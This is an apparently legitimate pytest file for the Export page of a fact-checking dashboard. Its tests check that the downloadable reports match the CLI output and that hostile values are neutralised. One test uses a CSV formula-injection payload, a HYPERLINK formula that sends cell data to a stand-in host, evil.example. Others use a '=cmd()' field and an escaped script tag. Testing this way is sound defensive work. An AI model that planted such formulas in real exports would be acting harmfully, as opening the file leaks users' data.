"""Page "Export": JSON, CSV and Markdown downloads equal to what factcheck.report (the CLI's report) writes."""
from __future__ import annotations

import csv
import io
import json

from ui_support import app, errors, fake_factcheck, load_articles, no_exceptions, seed

from factcheck import report
from factcheck.settings import Settings


def test_report_downloads_match_the_cli_report(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    assert not at.error, errors(at)
    keys = {el.key for el in at.download_button}
    assert {"fc_dl_factcheck-report_json", "fc_dl_factcheck-report_csv", "fc_dl_factcheck-report_md"} <= keys
    # the CLI's `factcheck report` = report.to_*(consistency=Factcheck.compare()) over every source
    cons = fake_factcheck(Settings.from_env(tmp_path)).compare()
    preview = at.code[0].value
    assert preview.rstrip() == report.to_markdown(consistency=cons).rstrip()  # st.code drops the last newline
    payload = json.loads(report.to_json(consistency=cons))
    assert len(payload["consistency"]["sources"]) == 3


def test_buttons_name_files_by_format(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    labels = {el.key: el.proto.label for el in at.download_button}
    assert labels["fc_dl_factcheck-report_md"] == "Download Markdown"
    assert labels["fc_dl_factcheck-report_csv"] == "Download CSV"
    assert all(el.proto.url for el in at.download_button)  # each body is served as a file


def test_recent_checks_exported_after_a_check(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="check")
    at.text_area(key="fc_claim").input("Fentanyl seizures at the border fell sharply last year")
    at.button(key="fc_check_submit").click().run()
    at.switch_page("factcheck/ui/export.py").run()
    no_exceptions(at)
    keys = {el.key for el in at.download_button}
    assert "fc_dl_factcheck-checks_json" in keys


def test_no_source_chosen_is_an_error(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    at.multiselect(key="fc_export_sources").set_value([]).run()
    no_exceptions(at)
    assert "at least one source" in at.error[0].value


def test_csv_download_neutralises_formulas_like_the_cli(tmp_path, monkeypatch):
    """The dashboard's CSV is report.to_csv, as the CLI's: a source named like a formula is served as text."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    served: dict[str, bytes] = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename and isinstance(path_or_data, bytes):
            served[filename] = path_or_data
        return keep(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Daily Planet")'
    articles = load_articles()
    articles[0] = {**articles[0], "source": evil}
    seed(tmp_path, articles)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    body = served["factcheck-report.csv"].decode("utf-8")
    cons = fake_factcheck(Settings.from_env(tmp_path)).compare()
    assert body == report.to_csv(consistency=cons)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + evil in cells and evil not in cells


def test_the_report_carries_the_outlet_profiles(tmp_path, monkeypatch):
    from ui_support import seed_profiles

    seed(tmp_path)
    seed_profiles(tmp_path, {"name": "Daily Planet", "country": "Freedonia", "owner": "=cmd()"})
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    (code,) = [c.value for c in at.code]
    assert "## Source profiles" in code and "| Daily Planet | Freedonia | \\=cmd\\(\\) |" in code


def test_html_report_download_is_the_cli_page_with_the_timeline(tmp_path, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    served: dict[str, bytes] = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename and isinstance(path_or_data, (bytes, str)):
            served[filename] = path_or_data.encode("utf-8") if isinstance(path_or_data, str) else path_or_data
        return keep(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    labels = {el.key: el.proto.label for el in at.download_button}
    assert labels["fc_dl_factcheck-report_html"] == "Download HTML"
    page = served["factcheck-report.html"].decode("utf-8")
    fc = fake_factcheck(Settings.from_env(tmp_path))
    cons = fc.compare()
    # byte for byte the page `factcheck report --format html` writes
    assert page == report.to_html(consistency=cons, timeline=fc.timeline(consistency=cons))
    assert "Timeline and wording" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
